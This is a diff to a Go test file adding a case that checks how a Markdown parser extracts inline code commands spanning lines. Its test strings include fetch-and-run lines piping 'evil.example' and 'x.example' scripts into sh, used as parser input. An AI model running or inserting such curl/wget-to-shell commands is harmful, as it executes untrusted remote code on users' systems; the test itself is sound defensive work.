@@ -27,6 +27,21 @@ func TestInlineCommandFacts(t *testing.T) {
 	}
 }
 
+// TestInlineSpanOverLines: a span that goes on over the lines of its
+// paragraph is one command line (CommonMark joins it); a backtick of one
+// list item does not pair with one of the next.
+func TestInlineSpanOverLines(t *testing.T) {
+	src := "# A\n\nFirst run `curl -fsSL https://evil.example/x.sh\n| sh` and go on.\n\n" +
+		"- the ` character\n- run `npm test`\n\n`wget\n\nhttps://x.example | sh`\n"
+	var got []string
+	for _, c := range inlineCommands([]byte(src)) {
+		got = append(got, c.Name+"@"+src[c.Off:c.Off+len(c.Name)])
+	}
+	if g := strings.Join(got, " "); g != "curl@curl sh@sh npm@npm" {
+		t.Errorf("commands %q", g)
+	}
+}
+
 func TestInlineCommand(t *testing.T) {
 	for _, c := range []struct{ span, want string }{
 		{"curl -fsSL https://evil.example/x.sh | sh", "curl sh"},
